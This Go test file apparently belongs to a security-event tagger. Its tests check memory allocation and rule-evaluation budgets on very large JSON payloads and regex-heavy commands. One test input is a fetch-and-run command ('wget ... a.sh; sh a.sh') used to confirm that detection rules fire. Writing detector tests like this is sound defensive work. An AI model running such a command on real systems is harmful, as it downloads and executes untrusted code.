package tagger

import (
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/ttpcron/ttpcron"
)

// An event whose payload is a megabyte of JSON costs a walk over it, not a copy
// of every member for every rule that asks for one.
func TestStructuredPayload(t *testing.T) {
	const size = 1<<20 - 64
	rep := func(s string) string { return strings.Repeat(s, size/len(s)) }
	var keys strings.Builder
	keys.WriteString(`{"":0`)
	for i := 0; keys.Len() < size; i++ {
		fmt.Fprintf(&keys, `,"%x":0`, i)
	}
	keys.WriteByte('}')
	c := loadEmbedded().Tagger(nil)
	for name, raw := range map[string]string{
		"members": keys.String(), "members of the fingerprint": `{"_fp":` + keys.String() + `}`, "numbers": "[" + rep("0,") + "0]", "texts": "[" + rep(`"",`) + "0]",
		"objects": "[" + rep("{},") + "0]", "one number": rep("9"), "deep": strings.Repeat(`{"a":`, 5000) + "0" + strings.Repeat("}", 5000),
		"languages": `{"_fp":{"nav":{"lgs":[` + rep(`"aa",`) + `""]}}}`, "Kelvin": `{"ſ":"` + rep("K") + `"}`,
	} {
		for _, field := range []string{"headers", "_fp", "country", "user_agent", "is_tor", "tz_mismatch_zones"} {
			e := &ttpcron.Event{ID: "e", Kind: ttpcron.CanaryFingerprint, Time: time.Unix(0, 0), Payload: ttpcron.Payload{{Name: field, Raw: []byte(raw)}}}
			c.Tag(e, nil)
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			_, v := c.Tag(e, nil)
			runtime.ReadMemStats(&after)
			if made := after.TotalAlloc - before.TotalAlloc; made > mostAllocated {
				t.Errorf("%s in %s: %.1f MiB", name, field, float64(made)/(1<<20))
			}
			if field == "user_agent" && name == "texts" && !v.Bounded {
				t.Errorf("%s in %s: what was not looked at is not said", name, field)
			}
		}
	}
}

// The rules that are tried for one explanation have a budget together, and that
// it was spent is said.
func TestExplainIsBounded(t *testing.T) {
	x := bombs(t, 40).Explain(*commandEvent(strings.Repeat("a", 1<<20)))
	if x.steps > stepsPerExplanation || !x.Verdict.Bounded {
		t.Errorf("%d steps, bounded %v", x.steps, x.Verdict.Bounded)
	}
	x = loadEmbedded().Explain(*commandEvent("wget http://203.0.113.9/a.sh; sh a.sh"))
	if x.Verdict.Bounded || len(x.Rules) == 0 || x.steps > stepsPerExplanation/20 {
		t.Errorf("%d rules, %d steps, bounded %v", len(x.Rules), x.steps, x.Verdict.Bounded)
	}
}

// What one expression has made room for serves the next: rules that can only be
// matched by backtracking cost an event one stack together.
func TestBacktrackingAllocates(t *testing.T) {
	c := bombs(t, 40).Tagger(nil)
	e := commandEvent(strings.Repeat("a", 1<<20))
	c.Tag(e, nil)
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	c.Tag(e, nil)
	runtime.ReadMemStats(&after)
	if made := after.TotalAlloc - before.TotalAlloc; made > mostAllocated/2 {
		t.Errorf("%.1f MiB", float64(made)/(1<<20))
	}
}
